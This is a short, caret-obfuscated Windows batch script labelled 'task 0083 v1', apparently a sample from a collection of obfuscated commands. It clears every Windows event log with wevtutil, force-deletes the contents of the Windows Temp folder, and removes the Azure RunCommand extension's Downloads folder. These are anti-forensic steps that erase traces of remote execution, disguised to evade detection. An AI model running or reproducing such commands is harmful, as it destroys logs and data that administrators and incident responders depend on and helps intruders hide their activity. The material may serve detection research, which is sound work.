REM task 0083 v1
fo^r /F "tokens=*" %%^1 in ('^w^e^vt^u^t^i^^l.ex^e ^e^^l') ^D^O ^w^e^v^t^ut^i^l.e^x^^e ^^cl "%%1"
@echo off
set vnyg=^de^l /f /^q ^C:\W^i^n^do^ws\T^em^p\*.*
call %vnyg%
@echo off
set lbll=^rd /^s /q C:\^P^acka^g^es\P^lug^ins\^Mi^c^ros^oft.^C^P^lat.Co^re.RunCo^m^mandWi^n^do^ws\^1.^1.1^5\^Dow^nloa^d^s
call %lbll%
